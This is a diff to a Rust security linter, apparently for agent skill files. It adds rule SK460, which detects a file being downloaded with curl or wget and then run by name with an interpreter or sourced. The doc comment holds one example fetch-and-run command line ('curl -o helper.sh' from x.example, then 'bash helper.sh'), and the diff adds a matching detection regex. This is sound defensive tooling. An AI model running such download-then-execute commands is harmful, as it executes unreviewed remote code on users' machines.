@@ -43,6 +43,24 @@ declare_rule! {
 
 declare_rule! {
     /// ## What it does
+    /// Fires when a file that a command downloads (`curl -o`, `curl -O`, `wget`, `urlretrieve`,
+    /// `Invoke-WebRequest -OutFile`) is then run by name with an interpreter or sourced
+    /// (`bash x.sh`, `sh ./x`, `python3 x.py`, `. x`, `source x`), in the same script or in
+    /// the commands of the same document (SKILL.md's blocks and inline commands, in order).
+    /// No `chmod` is needed for this, and no pipe.
+    ///
+    /// ## Why is this risky?
+    /// It is `curl … | bash` in two steps: whatever the server returns runs, and nothing about
+    /// it was reviewed (pattern SC2). Splitting the two steps hides it from rules that look for
+    /// the pipe.
+    ///
+    /// ## Example
+    /// `curl -fsSL -o helper.sh https://x.example/helper.sh` then `bash helper.sh`
+    pub struct DownloadThenRun { code: "SK460", slug: "download-then-run", severity: High, summary: "a downloaded file is run by name with an interpreter or sourced" }
+}
+
+declare_rule! {
+    /// ## What it does
     /// Fires when one script or code block downloads a file, makes it executable and runs it:
     /// the file made executable is the one downloaded (its name, or the variable holding it, is
     /// on the `chmod` line). A script that fetches an archive and marks its own helper
@@ -514,6 +532,71 @@ fn saved_name(download: &str) -> Option<String> {
     (name.len() >= 2).then(|| name.to_string())
 }
 
+static RUN_BY_NAME: LazyLock<Regex> = LazyLock::new(|| {
+    crate::pattern::compile(
+        r#"(?:^|[\s;&|(`])(?:sudo\s+)?(?:(?:ba|z|da|k)?sh|python[0-9.]*|node|perl|ruby|source|\.)\s+(?:-[a-zA-Z]+\s+)*["']?([^\s'";|&)`]+)"#,
+    )
+    .expect("valid regex")
+});
+
+/// SK460: per file, downloads whose saved name a command in the same or a later unit of that
+/// file runs by name. One finding per file, at the download.
+fn downloaded_then_run(units: &[Unit]) -> Vec<Finding> {
+    let mut out = Vec::new();
+    let mut by_file: Vec<(&str, Vec<&Unit>)> = Vec::new();
+    for unit in units.iter().filter(|u| u.lang != Language::Prose) {
+        match by_file.iter_mut().find(|(f, _)| *f == unit.file) {
+            Some((_, list)) => list.push(unit),
+            None => by_file.push((&unit.file, vec![unit])),
+        }
+    }
+    for (_, file_units) in by_file {
+        let mut downloads: Vec<(usize, &Unit, usize, String)> = Vec::new();
+        for (i, unit) in file_units.iter().enumerate() {
+            for d in DOWNLOAD_TO_FILE.find_iter(&unit.text).take(64) {
+                let rest_of_line = d.start()..unit.line_span(d.start()).end;
+                if let Some(name) = saved_name(&unit.text[rest_of_line]) {
+                    downloads.push((i, unit, d.start(), name));
+                }
+            }
+        }
+        if downloads.is_empty() {
+            continue;
+        }
+        let hit = downloads.iter().find(|(i, _, at, name)| {
+            file_units[*i..].iter().enumerate().any(|(k, later)| {
+                let from = if k == 0 { *at } else { 0 };
+                RUN_BY_NAME
+                    .captures_iter(&later.text[from..])
+                    .filter_map(|c| c.get(1))
+                    .any(|m| {
+                        let ran = m.as_str().trim_start_matches("./");
+                        let ran = ran.rsplit('/').next().unwrap_or(ran);
+                        let ran = ran.trim_start_matches(['$', '{']).trim_end_matches('}');
+                        ran == name
+                    })
+            })
+        });
+        let Some((_, unit, at, name)) = hit else {
+            continue;
+        };
+        let (line, col) = unit.position(*at);
+        let mut f = finding(
+            &DownloadThenRun::INFO,
+            Confidence::High,
+            "supply-chain",
+            &format!("downloads `{name}` and then runs it by name"),
+        )
+        .at(&unit.file, Some(line), Some(col))
+        .with_evidence(unit.line_at(*at))
+        .with_capability(Capability::ProcExec)
+        .with_stage(KillChainStage::Execution);
+        f.taxonomy = vec!["SC2".into()];
+        out.push(f);
+    }
+    out
+}
+
 /// The first download in `text` whose saved file a `chmod +x` (or `os.chmod`, `Start-Process`,
 /// quarantine removal) line names.
 fn dropped_and_made_executable(unit: &Unit) -> Option<regex::Match<'_>> {
@@ -800,6 +883,7 @@ pub fn check(units: &[Unit], out: &mut Vec<Finding>) {
             new.push(f);
         }
     }
+    new.extend(downloaded_then_run(units));
     new.extend(agent_hijack(out));
     new.extend(credential_sweep(units));
     new.extend(remote_controlled(out));
